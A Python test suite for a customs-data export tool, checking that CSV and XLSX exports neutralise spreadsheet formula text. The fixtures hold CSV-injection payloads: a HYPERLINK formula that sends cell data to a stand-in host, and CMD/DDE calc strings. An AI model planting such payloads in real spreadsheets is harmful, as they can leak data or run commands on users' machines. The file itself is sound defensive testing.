import csv
import importlib
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import fastexcel
import polars as pl
import pytest
from polars.testing import assert_frame_equal
from streamlit.testing.v1 import AppTest

from data_access import export
from data_access.access import CBP
from data_access.cli import main as itrac
from data_access.engines import get_engine
from data_access.reports import REPORTS, Scope
from tests.test_security_properties import ACME, BOLT, CRUX, build_tables, write_lake
from ui import load_jobs

FRAME = pl.DataFrame(
    {"entry_number": [f"ABC{n:07d}0" for n in range(7)], "value": [Decimal("1.25")] * 7},
    schema={"entry_number": pl.String, "value": pl.Decimal(18, 2)},
)


def test_sheets_needed_at_the_excel_row_limit() -> None:
    assert export.EXCEL_MAX_ROWS == 1_048_575  # 1,048,576 rows a sheet, one is the header
    assert [export.excel_sheets(n) for n in (0, 1_048_575, 1_048_576, 3_000_000)] == [1, 1, 2, 3]


def test_a_large_excel_export_splits_across_main_report_sheets(tmp_path) -> None:
    target = tmp_path / "out.xlsx"
    export.write(FRAME, target, "xlsx", per_sheet=3)
    book = fastexcel.read_excel(target)
    assert book.sheet_names == ["Main Report", "Main Report (2)", "Main Report (3)"]
    parts = [book.load_sheet(name).to_polars() for name in book.sheet_names]
    assert [p.height for p in parts] == [3, 3, 1]
    assert pl.concat(parts).get_column("entry_number").to_list() == FRAME["entry_number"].to_list()


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_other_formats_keep_every_row_and_code(fmt: str) -> None:
    data = export.to_bytes(FRAME, fmt)
    read = {"csv": pl.read_csv, "json": pl.read_json, "parquet": pl.read_parquet}[fmt]
    back = read(
        io.BytesIO(data),
        **({"schema_overrides": {"entry_number": pl.String}} if fmt == "csv" else {}),
    )
    assert back.get_column("entry_number").to_list() == FRAME["entry_number"].to_list()
    assert [str(v) for v in back.get_column("value")] == ["1.25"] * 7


# --- exports are safe to open ----------------------------------------------------------
# Text a spreadsheet would run: OWASP's CSV-injection examples, and the other starts.
ATTACKS = {
    ACME: '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    BOLT: "+CMD|' /C CALC'!A0",
    CRUX: "@SUM(1+1)*cmd|' /C calc'!A0",
}
MIDS = {  # country of origin -> the manufacturer ID its lines carry
    "CN": "-2+3+cmd|' /C calc'!A0",
    "VN": "\t=1+1",
    "MX": "\r=1+1",
    "BR": "a;=1+1",  # a separator then a formula: one quoted cell, not two
    "DE": "DEMAKER1",
}


def safe(text: str) -> str:
    return "'" + text if text[0] in "=+-@\t\r" else text


@pytest.fixture(scope="module")
def attack_lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tables = build_tables()
    tables["entry_summaries"] = tables["entry_summaries"].with_columns(
        importer_name=pl.col("importer_number").replace_strict(ATTACKS)
    )
    tables["entry_lines"] = tables["entry_lines"].with_columns(
        manufacturer_id=pl.col("country_of_origin").replace_strict(MIDS)
    )
    return write_lake(tmp_path_factory.mktemp("attack") / "lake", tables)


def exported(lake_dir: Path, out: Path, report: str, fmt: str) -> None:
    code = itrac(["export", report, "--lake", str(lake_dir), "--format", fmt, "--out", str(out)])
    assert code == 0


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def xlsx_sheets(data: bytes) -> dict[str, str]:
    """Each worksheet's XML, and the shared strings (if any) under "strings"."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        sheets = {n: book.read(n).decode() for n in names}
        if "xl/sharedStrings.xml" in book.namelist():
            sheets["strings"] = book.read("xl/sharedStrings.xml").decode()
    return sheets


def _ooxml_text(element: ElementTree.Element) -> str:
    """An element's text; OOXML writes control characters as _xHHHH_."""
    text = "".join(element.itertext())
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), text)


def xlsx_rows(data: bytes) -> list[list[object]]:
    """The first sheet's cells as written: shared or inline strings as text, numbers as
    floats, None where no value was written."""
    x = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    sheets = xlsx_sheets(data)
    strings = [
        _ooxml_text(si)
        for si in ElementTree.fromstring(sheets.get("strings", "<sst/>")).iter(f"{x}si")
    ]
    rows = []
    for row in ElementTree.fromstring(sheets["xl/worksheets/sheet1.xml"]).iter(f"{x}row"):
        cells: dict[int, object] = {}
        for cell in row.iter(f"{x}c"):
            column = ord(str(cell.get("r"))[0]) - ord("A")  # A..Z is enough here
            value, kind, inline = cell.find(f"{x}v"), cell.get("t"), cell.find(f"{x}is")
            if kind == "inlineStr" and inline is not None:  # constant memory's strings
                cells[column] = _ooxml_text(inline)
            elif value is None:
                continue
            elif kind == "s":
                cells[column] = strings[int(str(value.text))]
            else:
                assert kind is None, ElementTree.tostring(cell)  # a number, nothing else
                cells[column] = float(str(value.text))
        rows.append([cells.get(i) for i in range(max(cells, default=-1) + 1)])
    width = len(rows[0])
    return [r + [None] * (width - len(r)) for r in rows]


def assert_no_formulas(data: bytes) -> None:
    for name, xml in xlsx_sheets(data).items():
        assert "<f>" not in xml and "<f " not in xml, name


@pytest.mark.parametrize(
    ("report", "column", "attacks"),
    [
        ("overview.importers", "importer_name", ATTACKS),
        ("entry_summary.manufacturers", "manufacturer_id", MIDS),
    ],
)
def test_itrac_export_neutralises_formula_text_in_csv_and_xlsx(
    attack_lake: Path, tmp_path: Path, report: str, column: str, attacks: dict[str, str]
) -> None:
    raw = REPORTS[report](Scope(get_engine(attack_lake, "duckdb"), CBP))
    expected = sorted(safe(t) for t in raw.get_column(column))
    assert sorted(raw.get_column(column)) == sorted(set(attacks.values()))  # raw in the lake
    exported(attack_lake, tmp_path / "out.csv", report, "csv")
    header, *rows = csv_rows((tmp_path / "out.csv").read_bytes())
    assert sorted(r[header.index(column)] for r in rows) == expected
    exported(attack_lake, tmp_path / "out.xlsx", report, "xlsx")
    data = (tmp_path / "out.xlsx").read_bytes()
    assert_no_formulas(data)
    header, *cells = xlsx_rows(data)
    assert sorted(r[header.index(column)] for r in cells) == expected  # type: ignore[type-var]


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    frame = pl.DataFrame(
        {
            "text": ["-5", "-1,234.50", "-1+1", "=1", "@x", "+1", "\tx", "\rx", "ok", "", None],
            "count": [-5, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9],
            "amount": [Decimal("-1.25")] * 11,
            "share": [-0.5] * 11,
        },
        schema={"text": pl.String, "count": pl.Int64, "amount": pl.Decimal(18, 2),
                "share": pl.Float64},
    )  # fmt: skip
    safe_text = ["-5", "-1,234.50", "'-1+1", "'=1", "'@x", "'+1", "'\tx", "'\rx", "ok", "", ""]
    header, *rows = csv_rows(export.to_bytes(frame, "csv"))
    assert header == ["text", "count", "amount", "share"]
    assert [r[0] for r in rows] == safe_text
    assert rows[0][1:] == ["-5", "-1.25", "-0.5"]
    assert b'"a;=1+1"' in export.to_bytes(pl.DataFrame({"mid": [MIDS["BR"]]}), "csv")
    assert b"\n-5,-1.25,-0.5" not in export.to_bytes(frame, "csv")  # the text cell is quoted
    assert b'"-5",-5,-1.25,-0.5' in export.to_bytes(frame, "csv")  # numbers are not
    data = export.to_bytes(frame, "xlsx")
    assert_no_formulas(data)
    header, *cells = xlsx_rows(data)
    assert [r[0] for r in cells] == [*safe_text[:-2], None, None]
    assert cells[0][1:] == [-5.0, -1.25, -0.5]


@pytest.mark.parametrize("fmt", ["json", "parquet"])
def test_data_formats_keep_text_as_it_is(fmt: str) -> None:
    frame = pl.DataFrame({"importer_name": list(ATTACKS.values()), "mid": list(MIDS.values())[:3]})
    read = {"json": pl.read_json, "parquet": pl.read_parquet}[fmt]
    assert_frame_equal(read(io.BytesIO(export.to_bytes(frame, fmt))), frame)


# --- the page downloads: the rejected rows of an upload ---------------------------------
MEDIA: list[object] = []  # the app's media file manager, kept by the script


def data_page_keeping_media(lake_dir: str, principal_text: str) -> None:
    from pathlib import Path

    from streamlit.runtime import Runtime

    from data_access.access import Principal
    from data_access.filters import Filters
    from pages import data
    from tests import test_export
    from ui.data import View

    data.render(View(Path(lake_dir), "duckdb", Principal.parse(principal_text), Filters()))
    test_export.MEDIA[:] = [Runtime.instance().media_file_mgr]


def downloaded(at: AppTest, key: str) -> bytes:
    """What the browser gets on clicking download button `key`: the server runs the
    button's deferred callable and serves the file it stored."""
    (button,) = [b for b in at.download_button if b.key == key]
    # The script imports this file as tests.test_export; pytest may have another copy.
    media = importlib.import_module("tests.test_export").MEDIA[0]
    url = media.execute_deferred(button.proto.deferred_file_id)  # type: ignore[attr-defined]
    return media.read_file(url.rsplit("/", 1)[1]).content  # type: ignore[attr-defined]


def test_rejected_rows_download_neutralises_the_uploaded_text(tmp_path: Path) -> None:
    header = "Entry Summary Number,Entry Summary Line Number,Importer Number,Entry Date,"
    header += "HTS Number - Full,Country of Origin Code,Line Tariff Goods Value Amount\r\n"
    quoted_link = '"' + ATTACKS[ACME].replace('"', '""') + '"'
    rows = [
        f"ABC12345676,1,{ACME},01/05/2024,0901210000,BR,$5.00",
        f"ABC12345676,2,{quoted_link},01/05/2024,0901210000,BR,$5.00",
        f"ABC12345676,3,{ACME},@SUM(1+1),0901210000,BR,$5.00",
    ]
    upload = (header + "".join(r + "\r\n" for r in rows)).encode()
    at = AppTest.from_function(
        data_page_keeping_media, args=(str(tmp_path / "lake"), f"importer:{ACME}"),
        default_timeout=60,
    ).run()  # fmt: skip
    at.file_uploader(key="data-uploads").set_value([("es003.csv", upload, "text/csv")]).run()
    at.button(key="data-load").click().run()
    assert load_jobs.wait_all()  # the load runs in the background; the next run shows it
    at.run()
    assert not at.exception
    shown = at.dataframe[1].value  # as loaded; each problem of a row is a row here
    link, at_sum = ATTACKS[ACME], "@SUM(1+1)"
    assert shown["value"].tolist() == [link, link, at_sum]
    assert shown["Importer Number"].tolist() == [link, link, ACME]
    header_row, *cells = csv_rows(downloaded(at, "rejected-rows-csv"))
    column = {name: [r[i] for r in cells] for i, name in enumerate(header_row)}
    assert column["value"] == ["'" + link, "'" + link, "'" + at_sum]
    assert column["Importer Number"] == ["'" + link, "'" + link, ACME]  # the line's own fields
    assert column["Entry Date"] == ["01/05/2024", "01/05/2024", "'" + at_sum]
    assert column["row"] == ["3", "3", "4"]


def test_line_breaks_nul_full_width_signs_and_column_names_are_neutralised() -> None:
    frame = pl.DataFrame({"=HYPERLINK(1)": ["＝1+1", "＠A1", "\n=1", "\x00=1", "a=1"]})
    assert export.neutralised(frame).to_dict(as_series=False) == {
        "'=HYPERLINK(1)": ["'＝1+1", "'＠A1", "'\n=1", "'\x00=1", "a=1"]
    }
    assert export.neutralised(frame.with_columns(pl.all().cast(pl.Categorical))).dtypes == [
        pl.String
    ]
